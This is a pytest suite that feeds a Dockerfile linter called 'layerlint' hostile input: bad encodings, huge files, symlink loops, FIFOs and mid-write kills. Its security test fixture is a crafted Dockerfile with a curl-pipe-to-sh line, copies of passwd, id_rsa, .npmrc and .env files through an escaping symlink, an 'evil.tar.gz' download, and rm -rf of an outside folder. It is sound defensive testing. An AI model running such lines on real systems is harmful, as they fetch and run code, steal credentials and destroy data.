"""Hostile input: whatever a Dockerfile (or the file system around it) holds, layerlint reports
it in one line naming the file (and the line when there is one), exits 2 when a file could not
be linted, still lints the other files, never hangs, never executes anything, and never reads
outside the build context.

Runs the real CLI: in-process with click's CliRunner where that is faithful, in a subprocess
(with a timeout as the hang guard) where the process itself matters (closed stdin, broken
pipe, memory, kill -9).
"""
from __future__ import annotations

import json
import os
import re
import signal
import stat
import subprocess
import sys
import textwrap
import time

import pytest
from click.testing import CliRunner

from layerlint.cli.app import main
from layerlint.syntax import MAX_BYTES

GOOD = "FROM python:3.12\nCOPY . .\nRUN pip install -r requirements.txt\n"


def cli(*args, cwd=None, input=None):
    """Run the CLI in-process; returns (exit code, stdout, stderr)."""
    runner = CliRunner()
    old = os.getcwd()
    try:
        if cwd:
            os.chdir(cwd)
        r = runner.invoke(main, ["--no-color", *args] if args and args[0] not in ("rules", "rule") else list(args),
                          input=input, catch_exceptions=False)
    finally:
        os.chdir(old)
    return r.exit_code, r.stdout, r.stderr


def proc(*args, cwd=None, timeout=300, **kw):
    """Run ``python -m layerlint`` in a subprocess (the timeout is a hang guard)."""
    return subprocess.run([sys.executable, "-m", "layerlint", *args], cwd=cwd, capture_output=True,
                          timeout=timeout, **kw)


def jcli(*args, cwd=None):
    code, out, err = cli("--format", "json", *args, cwd=cwd)
    return code, json.loads(out), err


def file_entry(doc, name):
    return next(f for f in doc["files"] if f["path"].endswith(name))


def tty_errors(out):
    return [ln for ln in out.splitlines() if ": error: " in ln]


def check_one_bad_file(tmp_path, name, data, line=None, column=None, message=None):
    """``name`` (bytes ``data``) fails with one clear line; good.Dockerfile beside it is linted."""
    (tmp_path / name).write_bytes(data)
    (tmp_path / "good.Dockerfile").write_text(GOOD)
    code, out, _ = cli(name, "good.Dockerfile", cwd=tmp_path)
    assert code == 2
    errs = tty_errors(out)
    assert len(errs) == 1, out
    where = name if line is None else f"{name}:{line}:{column}"
    assert errs[0].startswith(f"  {where}: error: "), errs
    if message:
        assert message in errs[0]
    assert "good.Dockerfile:2:6: warning LL201" in out  # the other file is still linted
    code, doc, _ = jcli(name, "good.Dockerfile", cwd=tmp_path)
    assert code == 2
    assert "error" in file_entry(doc, name) and "error" not in file_entry(doc, "good.Dockerfile")
    assert any(f["rule"] == "LL201" and f["path"] == "good.Dockerfile" for f in doc["findings"])
    return errs[0]


# -- encodings and binary content -----------------------------------------------------------------
def test_binary_file(tmp_path):
    elf = b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8
    check_one_bad_file(tmp_path, "bin.Dockerfile", elf, 1, 8, "binary file")


def test_nul_byte_names_its_line_and_column(tmp_path):
    check_one_bad_file(tmp_path, "nul.Dockerfile", b"FROM alpine:3.19\nRUN echo a\x00b\n", 2, 11, "NUL byte")


def test_invalid_utf8_is_an_error_with_its_line_and_the_rest_is_linted(tmp_path):
    data = b"FROM alpine:3.19\nLABEL x=\"caf\xe9\"\nFROM python:3.12\nCOPY . .\nRUN pip install -r requirements.txt\n"
    check_one_bad_file(tmp_path, "latin1.Dockerfile", data, 2, 13, "invalid UTF-8")
    code, doc, _ = jcli("latin1.Dockerfile", cwd=tmp_path)
    assert code == 2
    assert any(f["rule"] == "LL201" and f["line"] == 4 for f in doc["findings"])  # partial parse


@pytest.mark.parametrize("bom,codec", [(b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be")])
def test_utf16_with_bom(tmp_path, bom, codec):
    data = bom + GOOD.encode(codec)
    check_one_bad_file(tmp_path, "u16.Dockerfile", data, 1, 1, "UTF-16")


def test_utf8_bom_is_fine(tmp_path):
    (tmp_path / "Dockerfile").write_bytes(b"\xef\xbb\xbf" + GOOD.encode())
    code, doc, _ = jcli("Dockerfile", cwd=tmp_path)
    assert code == 1 and "error" not in doc["files"][0]
    assert [(f["rule"], f["line"], f["column"]) for f in doc["findings"] if f["rule"] == "LL201"] == [("LL201", 2, 6)]


# -- size --------------------------------------------------------------------------------------
def test_100mb_file_is_refused_unread(tmp_path):
    big = tmp_path / "big.Dockerfile"
    with open(big, "wb") as f:  # sparse: 100 MB that cost no disk
        f.truncate(100 * 1024 * 1024)
    (tmp_path / "good.Dockerfile").write_text(GOOD)
    code, out, _ = cli("big.Dockerfile", "good.Dockerfile", cwd=tmp_path)
    assert code == 2
    assert tty_errors(out) == ["  big.Dockerfile: error: file is 100 MB; layerlint refuses files over 20 MB"]
    assert "good.Dockerfile:2:6: warning LL201" in out

    # refused before reading: the process stays far below the file's size
    before = _child_maxrss_kb(["--no-color", "good.Dockerfile"], tmp_path)
    after = _child_maxrss_kb(["--no-color", "big.Dockerfile"], tmp_path)
    assert after < before + 10 * 1024, (before, after)

    # and in the API: read_source never reads a byte of it
    from layerlint.syntax import source as lint_mod  # where a Dockerfile is opened
    reads = []
    real_open = open

    class Spy:
        def __init__(self, f):
            self.f = f

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.f.close()

        def fileno(self):
            return self.f.fileno()

        def read(self, n=-1):
            reads.append(n)
            return self.f.read(n)

    lint_mod.open = lambda p, mode="r", *a, **k: Spy(real_open(p, mode, *a, **k))
    try:
        with pytest.raises(OSError, match="refuses files over 20 MB"):
            lint_mod.read_source(str(big))
    finally:
        del lint_mod.open
    assert reads == []


HWM = r"""
import sys
from layerlint.cli.app import main
try:
    main(sys.argv[1:])
finally:
    # VmHWM: this process's peak RSS since exec (ru_maxrss would include the parent's size)
    hwm = next(l for l in open("/proc/self/status") if l.startswith("VmHWM:"))
    sys.stderr.write("HWM " + hwm.split()[1] + "\n")
"""


def _child_maxrss_kb(args, cwd) -> int:
    p = subprocess.run([sys.executable, "-c", HWM, *args], cwd=cwd, capture_output=True, timeout=300)
    return int(p.stderr.decode().rsplit("HWM ", 1)[1].split()[0])


def test_oversized_stdin_is_refused(tmp_path):
    data = b"FROM alpine:3.19\n" + b"# padding\n" * ((MAX_BYTES // 10) + 10)
    code, out, _ = cli("-", input=data, cwd=tmp_path)
    assert code == 2
    assert tty_errors(out) == ["  -:1:1: error: file is over 20 MB; layerlint refuses files over 20 MB"]


# -- size of the structure ----------------------------------------------------------------------
@pytest.mark.slow
def test_10000_stages(tmp_path):
    text = "".join(f"FROM alpine:3.19 AS s{i}\nRUN echo {i}\n" for i in range(10_000))
    (tmp_path / "Dockerfile").write_text(text)
    p = proc("--format", "json", "Dockerfile", cwd=tmp_path, timeout=600)
    assert p.returncode in (0, 1), p.stderr
    doc = json.loads(p.stdout)
    assert doc["files"] == [{"path": "Dockerfile"}] and not p.stderr


@pytest.mark.slow
def test_10000_chained_stages(tmp_path):
    # each stage built FROM the previous one and copying from it: rules that follow FROM chains
    # remember what they found per stage (this took minutes when each stage walked its chain)
    text = "FROM alpine:3.19 AS s0\nVOLUME /data\n" + "".join(
        f"FROM s{i - 1} AS s{i}\nRUN echo {i} > /f{i}\nCOPY --from=s{i - 1} /f{i - 1} /g{i}\n" for i in range(1, 10_000))
    text += "COPY app.tar.gz /tmp/\nRUN tar xzf /tmp/app.tar.gz && echo x > /data/y\n"
    (tmp_path / "Dockerfile").write_text(text)
    code, doc, _ = jcli("Dockerfile", "--select", "LL3,LL5,LL2,LL1", cwd=tmp_path)
    assert code == 1 and "error" not in doc["files"][0]
    last = 3 * 9_999 + 2 + 2
    hits = {(f["rule"], f["line"]) for f in doc["findings"]}
    assert ("LL505", last - 1) in hits  # the archive copied in stage 0's chain, then extracted
    assert ("LL322", last) in hits  # a write into the VOLUME declared 10,000 stages up the chain


def test_expansion_nested_1000_deep(tmp_path):
    n = 1000
    nested = "".join(f"${{v{i}:-" for i in range(n)) + "x" + "}" * n
    (tmp_path / "Dockerfile").write_text(
        f"ARG BASE={nested}\nFROM {nested}\nENV A={nested}\nLABEL b={nested}\nWORKDIR /{nested}\n"
        f"COPY {nested} /x\nRUN echo {nested} $(echo $(echo {nested})) && apt-get install curl\n")
    code, doc, _ = jcli("Dockerfile", "--select", "ALL", cwd=tmp_path)
    # BuildKit expands it; layerlint gives up on each such word and says so, per word, with the
    # place of the 201st `${` (the shell's own `${`s in the RUN are the shell parser's business)
    assert code == 2
    errors = doc["files"][0]["errors"]
    assert [(e["line"], e["column"]) for e in errors] == [(ln, col + 6 * 10 + 7 * 90 + 8 * 100)
                                                       for ln, col in ((1, 5 + 5), (2, 6), (3, 5 + 2), (4, 7 + 2), (5, 9 + 1), (6, 6))]
    assert all("nested more than 200 deep" in e["message"] for e in errors)
    assert {f["line"] for f in doc["findings"]} >= {2, 7}  # the rest is still linted


@pytest.mark.parametrize("text, where, says", [
    ("FROM alpine:3.19\nLABEL a=" + "${v:-" * 201 + "x" + "}" * 201 + "\n", "2:1009", "nested more than 200 deep"),
    ("FROM alpine:3.19\nENV A0=xxxxxxxxxx\n" + "".join(f"ENV A{i}=$A{i - 1}$A{i - 1}\n" for i in range(1, 30)),
     "19:1", "variable values expand to more than layerlint's limit"),
])
def test_explain_says_where_it_gave_up(tmp_path, text, where, says):
    (tmp_path / "Dockerfile").write_text(text)
    p = proc("explain", "Dockerfile", cwd=tmp_path)
    code, out, err = p.returncode, p.stdout.decode(), p.stderr.decode()
    assert code == 2 and out == "" and err.count("\n") == 1, (code, out, err)
    assert f"Dockerfile:{where}: " in err and says in err, err


def test_pathological_runs_of_special_characters(tmp_path):
    runs = ["\\" * 50_000, " " * 50_000, "$" * 50_000, "{" * 50_000, "${" * 20_000, "$(" * 20_000, "\"" * 50_001,
            "'" * 50_001, "<<" * 20_000, "[" * 50_000, "`" * 50_001, "--" * 20_000]
    text = "FROM alpine:3.19\n" + "".join(f"RUN echo {r}\nLABEL x={r}\nCOPY {r} /d/\n" for r in runs)
    (tmp_path / "Dockerfile").write_text(text)
    p = proc("--format", "json", "Dockerfile", cwd=tmp_path, timeout=300)
    assert p.returncode in (0, 1, 2) and b"Traceback" not in p.stderr, p.stderr
    json.loads(p.stdout)


# -- malformed text -------------------------------------------------------------------------------
def test_unterminated_heredoc(tmp_path):
    check_one_bad_file(tmp_path, "hd.Dockerfile", b"FROM alpine:3.19\nRUN <<EOF\necho hi\n", 2, 5,
                       "unterminated heredoc 'EOF'")


def test_unterminated_quote_is_linted(tmp_path):
    (tmp_path / "Dockerfile").write_text('FROM alpine:3.19\nRUN echo "never closed\nLABEL a="b\nCMD ["sh", "-c\n')
    code, doc, _ = jcli("Dockerfile", cwd=tmp_path)
    assert code in (0, 1) and "error" not in doc["files"][0]


def test_crlf_gives_the_same_findings_as_lf(tmp_path):
    (tmp_path / "lf.Dockerfile").write_bytes(GOOD.encode())
    (tmp_path / "crlf.Dockerfile").write_bytes(GOOD.replace("\n", "\r\n").encode())
    _, doc, _ = jcli("lf.Dockerfile", "crlf.Dockerfile", cwd=tmp_path)

    def of(name):
        return [(f["rule"], f["line"], f["column"], f["end_column"]) for f in doc["findings"] if f["path"] == name]
    assert of("lf.Dockerfile") == of("crlf.Dockerfile") != []
    code, out, _ = cli("crlf.Dockerfile", cwd=tmp_path)
    assert "\r" not in out


def test_lone_cr_and_terminal_escapes_never_reach_the_terminal(tmp_path):
    # (a lone CR is no line end for BuildKit: `FROM alpine:3.19\rRUN ...` is a FROM of 4 words, an error)
    data = (b"FROM alpine:3.19\r\nRUN echo hi\rthere\r\nFROM python:3.12\nLABEL a=\"\x1b]0;pwned\x07\x1b[2J\rx\"\n"
            b"COPY . .\r\nRUN pip install -r requirements.txt # \xe2\x80\xae \x1b[31m\n")
    (tmp_path / "Dockerfile").write_bytes(data)
    code, out, err = cli("Dockerfile", cwd=tmp_path)
    assert code == 1, out
    assert "LL201" in out
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202e]", out + err)  # only \n (and tabs) left


# -- the file system ------------------------------------------------------------------------------
def test_symlink_loops_in_discovery(tmp_path):
    root = tmp_path / "repo"
    (root / "a").mkdir(parents=True)
    (root / "a" / "Dockerfile").write_text(GOOD)
    os.symlink("..", root / "a" / "up")           # a directory loop
    os.symlink(".", root / "self")                # another
    os.symlink("Dockerfile.me", root / "Dockerfile.me")  # a file symlink to itself
    os.symlink("nowhere", root / "Dockerfile.gone")      # dangling
    code, doc, _ = jcli("repo", cwd=tmp_path)
    assert code == 1
    assert [f["path"] for f in doc["files"]] == [os.path.join("repo", "a", "Dockerfile")]
    # named explicitly, the loop is a one-line error and the rest is still linted
    code, out, _ = cli(os.path.join("repo", "Dockerfile.me"), "repo", cwd=tmp_path)
    assert code == 2
    assert tty_errors(out) == [f"  {os.path.join('repo', 'Dockerfile.me')}: error: Too many levels of symbolic links"]
    assert "warning LL201" in out


def test_fifo_in_a_tree_is_skipped_not_waited_for(tmp_path):
    """A FIFO named like a Dockerfile would block a reader forever; discovery only yields
    regular files (this works as root, where permission tricks do not)."""
    root = tmp_path / "repo"
    root.mkdir()
    os.mkfifo(root / "Dockerfile")
    (root / "sub").mkdir()
    (root / "sub" / "Dockerfile").write_text(GOOD)
    p = proc("--format", "json", "repo", cwd=tmp_path, timeout=120)
    assert p.returncode == 1
    assert [f["path"] for f in json.loads(p.stdout)["files"]] == [os.path.join("repo", "sub", "Dockerfile")]


def test_unreadable_directory_and_file_during_discovery(tmp_path, monkeypatch):
    root = tmp_path / "repo"
    for d in ("locked", "open", "secret"):
        (root / d).mkdir(parents=True)
    (root / "locked" / "Dockerfile").write_text(GOOD)
    (root / "open" / "Dockerfile").write_text(GOOD)
    (root / "secret" / "Dockerfile").write_text(GOOD)
    locked, secret = root / "locked", root / "secret" / "Dockerfile"
    if os.geteuid() == 0:
        # root reads through chmod 000, so make the kernel's answer what a user would get
        from layerlint.engine import discover
        from layerlint.syntax import source as lint  # where a Dockerfile is opened
        real_scandir, real_open = os.scandir, open

        def scandir(p):
            if os.path.abspath(p) == str(locked):
                raise PermissionError(13, "Permission denied", str(p))
            return real_scandir(p)

        def fake_open(p, *a, **k):
            if os.path.abspath(p) == str(secret):
                raise PermissionError(13, "Permission denied", str(p))
            return real_open(p, *a, **k)
        monkeypatch.setattr(discover.os, "scandir", scandir)
        monkeypatch.setattr(lint, "open", fake_open, raising=False)
    else:  # pragma: no cover - CI runs as root
        os.chmod(locked, 0)
        os.chmod(secret, 0)
    try:
        code, out, _ = cli("repo", cwd=tmp_path)
    finally:
        os.chmod(locked, 0o755)
        os.chmod(secret, 0o644)
    assert code == 2
    assert sorted(tty_errors(out)) == sorted([
        f"  {os.path.join('repo', 'locked')}: error: cannot read directory: Permission denied",
        f"  {os.path.join('repo', 'secret', 'Dockerfile')}: error: Permission denied"])
    assert f"{os.path.join('repo', 'open', 'Dockerfile')}:2:6: warning LL201" in out


def test_directory_where_a_file_is_expected(tmp_path):
    (tmp_path / "adir").mkdir()
    (tmp_path / "Dockerfile").write_text(GOOD)
    for args in (["-o", "adir", "--format", "json", "Dockerfile"], ["--config", "adir", "Dockerfile"]):
        p = proc(*args, cwd=tmp_path, timeout=120)
        assert p.returncode == 2
        assert b"is a directory" in p.stderr and b"Traceback" not in p.stderr
    # a directory named like a Dockerfile is searched, not read
    (tmp_path / "x.Dockerfile").mkdir()
    (tmp_path / "x.Dockerfile" / "Dockerfile").write_text(GOOD)
    code, doc, _ = jcli("x.Dockerfile", cwd=tmp_path)
    assert code == 1 and [f["path"] for f in doc["files"]] == [os.path.join("x.Dockerfile", "Dockerfile")]
    # and the API says so in one line
    from layerlint.engine.settings import Settings
    from layerlint.engine.lint_file import lint_path
    res = lint_path(str(tmp_path / "adir"), Settings())
    assert [e.message for e in res.errors] == ["is a directory, not a Dockerfile"]


# -- the process ----------------------------------------------------------------------------------
def test_closed_stdin(tmp_path):
    (tmp_path / "Dockerfile").write_text(GOOD)
    p = proc("--no-color", "-", "Dockerfile", cwd=tmp_path, timeout=120, preexec_fn=lambda: os.close(0))
    assert p.returncode == 2
    out = p.stdout.decode()
    assert tty_errors(out) == ["  -: error: cannot read stdin: standard input is closed"]
    assert "Dockerfile:2:6: warning LL201" in out and b"Traceback" not in p.stderr
    p = proc("--no-color", cwd=tmp_path, timeout=120, preexec_fn=lambda: os.close(0))
    assert p.returncode == 2 and p.stderr.decode().count("\n") == 1 and b"no paths given" in p.stderr


@pytest.mark.parametrize("fmt", ["tty", "json"])
def test_broken_pipe_exits_quietly(tmp_path, fmt):
    for i in range(300):  # enough output to fill the pipe
        (tmp_path / f"{i}.Dockerfile").write_text(GOOD)
    p = subprocess.Popen([sys.executable, "-m", "layerlint", "--no-color", "--format", fmt, "-j", "1", "."],
                         cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    first = p.stdout.readline()  # `| head -1`
    p.stdout.close()
    err = p.stderr.read()
    p.wait(timeout=300)
    assert first
    assert err == b"", err.decode()
    assert p.returncode == 1  # the findings' code: a pipeline with pipefail must not pass


# -- security -------------------------------------------------------------------------------------
AUDIT = r"""
import json, os, sys
events = []
watch = ("open", "os.listdir", "os.scandir", "glob.glob", "os.chdir", "shutil.copyfile", "os.symlink")
run = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty",
       "pty.spawn", "ctypes.dlopen")
def hook(event, args):
    if event in watch and args and isinstance(args[0], (str, bytes, os.PathLike)):
        events.append([event, os.fsdecode(args[0])])
    elif event in run or event.startswith(("socket.", "urllib.", "http.", "ftplib.", "smtplib.")):
        events.append([event, repr(args)[:200]])
real_stat, real_lstat = os.stat, os.lstat
def stat(p, *a, **k):
    if isinstance(p, (str, bytes, os.PathLike)):
        events.append(["os.stat", os.fsdecode(p)])
    return real_stat(p, *a, **k)
def lstat(p, *a, **k):
    if isinstance(p, (str, bytes, os.PathLike)):
        events.append(["os.lstat", os.fsdecode(p)])
    return real_lstat(p, *a, **k)
from layerlint.cli.app import main
sys.addaudithook(hook)
os.stat, os.lstat = stat, lstat
try:
    main(sys.argv[1:])
except SystemExit as exc:
    code = exc.code
os.stat, os.lstat = real_stat, real_lstat
sys.stderr.write("\nAUDIT " + json.dumps({"code": code, "events": events}) + "\n")
"""

CRAFTED = textwrap.dedent("""\
    # syntax=docker/dockerfile:1
    ARG PWN=$(touch {m}/arg)
    FROM alpine:3.19 AS base
    ENV X="`touch {m}/env`" Y="$(touch {m}/env2)"
    RUN touch {m}/run && curl -fsS http://127.0.0.1:9/x | sh
    RUN <<EOF
    #!/bin/sh
    touch {m}/heredoc
    EOF
    ONBUILD RUN touch {m}/onbuild
    HEALTHCHECK CMD touch {m}/healthcheck
    COPY ../../outside/passwd /x
    COPY ../../../ /everything/
    COPY ../outside/ /y/
    COPY link-out/ /z/
    COPY link-out/id_rsa link-out/.npmrc /keys/
    COPY link-out/*.env ../outside/*.env /envs/
    ADD http://127.0.0.1:9/evil.tar.gz /
    ADD git@github.com:x/y.git /src
    RUN --mount=type=bind,source=../outside,target=/mnt cat /mnt/passwd
    FROM python:3.12
    WORKDIR /app
    COPY . .
    RUN pip install -r req-link.txt && pip install -r ../outside/requirements.txt && rm -rf ../outside/*
    RUN rm -rf /app/link-out/* /app/../outside
    CMD ["sh", "-c", "touch {m}/cmd"]
    """)


def test_crafted_dockerfile_executes_nothing_and_reads_nothing_outside_the_context(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    for name in ("passwd", "id_rsa", ".npmrc", "prod.env", "requirements.txt"):
        (outside / name).write_text("secret\n")
    markers = tmp_path / "markers"
    markers.mkdir()
    ctx = tmp_path / "a" / "ctx"
    ctx.mkdir(parents=True)
    os.symlink(outside, ctx / "link-out")                       # absolute symlink out of the context
    os.symlink("../../outside/requirements.txt", ctx / "req-link.txt")  # relative one
    (ctx / "Dockerfile").write_text(CRAFTED.format(m=markers))
    formats = ["json", "sarif", "github", "gitlab", "checkstyle", "junit", "summary"]
    args = [a for f in formats for a in ("--format", f)] + \
           [a for f in formats for a in ("-o", str(tmp_path / f"r.{f}"))] + ["--no-shellcheck", "Dockerfile"]
    p = subprocess.run([sys.executable, "-c", AUDIT, *args], cwd=ctx, capture_output=True, timeout=300)
    tail = p.stderr.decode().rsplit("\nAUDIT ", 1)
    assert len(tail) == 2, p.stderr.decode()
    audit = json.loads(tail[1])
    assert audit["code"] == 1, p.stderr.decode()
    assert list(markers.iterdir()) == []  # nothing ran
    events = audit["events"]
    ran = [e for e in events if not e[0].startswith(("open", "os.", "glob.")) or e[0] in (
        "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty")]
    assert ran == []  # no process, no socket, no URL
    # where each access really lands (.., symlinks): nothing outside the context, not even a stat
    forbidden = (str(outside.resolve()), "/etc/")
    def lands(event, path):
        full = os.path.join(ctx, path)
        if event == "os.lstat":  # looks at a symlink itself, not where it points
            return os.path.join(os.path.realpath(os.path.dirname(full)), os.path.basename(full))
        return os.path.realpath(full)
    touched = [e for e in events if lands(*e).startswith(forbidden)]
    assert touched == []  # nothing outside the context: not read, not listed, not even stat'ed
    assert os.path.exists(tmp_path / "r.json") and json.loads((tmp_path / "r.json").read_text())["findings"]


def test_shellcheck_runs_only_shellcheck(tmp_path):
    """With --shellcheck the one program started is ShellCheck, on a copy of the script."""
    shellcheck = pytest.importorskip("layerlint.engine.shellcheck")
    if not shellcheck.available():
        pytest.skip("shellcheck is not installed")
    markers = tmp_path / "markers"
    markers.mkdir()
    (tmp_path / "Dockerfile").write_text(f"FROM alpine:3.19\nRUN touch {markers}/run; $(touch {markers}/sub)\n")
    p = subprocess.run([sys.executable, "-c", AUDIT, "--shellcheck", "--format", "json", "Dockerfile"],
                       cwd=tmp_path, capture_output=True, timeout=300)
    audit = json.loads(p.stderr.decode().rsplit("\nAUDIT ", 1)[1])
    progs = [e[1] for e in audit["events"] if e[0] in ("subprocess.Popen", "os.posix_spawn", "os.exec")]
    assert progs and all("shellcheck" in e for e in progs), progs
    assert list(markers.iterdir()) == []


# -- writes that survive kill -9 ------------------------------------------------------------------
KILL_MIDWAY = r"""
import os, sys, time
real_fsync = os.fsync
def fsync(fd):
    open(sys.argv[1], "w").close()  # tell the test we are mid-write, then wait to be killed
    time.sleep(60)
os.fsync = fsync
from layerlint.cli.app import main
main(sys.argv[2:])
"""


@pytest.mark.parametrize("what", ["fix", "output"])
def test_kill_mid_write_leaves_old_file_then_new_file_keeps_mode(tmp_path, what):
    df = tmp_path / "Dockerfile"
    original = "FROM python:3.12\nWORKDIR /app\nCOPY . .\nRUN pip install --no-cache-dir -r requirements.txt\n"
    df.write_text(original)
    (tmp_path / "requirements.txt").write_text("click\n")
    target = df if what == "fix" else tmp_path / "report.json"
    if what == "output":
        target.write_text("old report\n")
    os.chmod(target, 0o640)
    before = target.read_bytes()
    args = ["--fix", "--unsafe-fixes", "Dockerfile"] if what == "fix" else ["--format", "json", "-o", "report.json", "Dockerfile"]
    ready = tmp_path / "ready"
    p = subprocess.Popen([sys.executable, "-c", KILL_MIDWAY, str(ready), *args], cwd=tmp_path,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.time() + 240
    while not ready.exists() and p.poll() is None and time.time() < deadline:
        time.sleep(0.02)
    assert ready.exists(), "never reached the write"
    p.send_signal(signal.SIGKILL)
    p.wait(timeout=60)
    assert target.read_bytes() == before  # the old file, whole
    temps = [n for n in os.listdir(tmp_path) if n.startswith(f".{target.name}.") and n.endswith(".tmp")]
    assert len(temps) == 1  # the half-written data went to a temp file beside it, never to the target
    os.unlink(tmp_path / temps[0])

    p = proc(*args, cwd=tmp_path, timeout=300)
    assert p.returncode in (0, 1), p.stderr
    after = target.read_bytes()
    assert after != before
    if what == "fix":
        assert after.decode().index("COPY requirements.txt") < after.decode().index("COPY . .")
    else:
        json.loads(after)
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o640
    assert [n for n in os.listdir(tmp_path) if n.endswith(".tmp")] == []


def test_a_rule_that_crashes_costs_only_itself(tmp_path, monkeypatch):
    """A bug in one rule is one error line (exit 2); the other rules and files still report."""
    from layerlint.rules import all_rules

    def boom(ctx):
        raise ValueError("boom\nsecond line")
        yield  # pragma: no cover
    rule = all_rules()["LL101"]
    monkeypatch.setitem(all_rules(), "LL101", rule.replace(check=boom))
    (tmp_path / "a.Dockerfile").write_text(GOOD)
    (tmp_path / "b.Dockerfile").write_text(GOOD)
    code, out, _ = cli("a.Dockerfile", "b.Dockerfile", cwd=tmp_path)
    assert code == 2
    assert tty_errors(out) == [
        f"  {n}: error: rule LL101 failed (ValueError: boom second line); this is a layerlint bug, please report it"
        for n in ("a.Dockerfile", "b.Dockerfile")]
    assert out.count("warning LL201") == 2
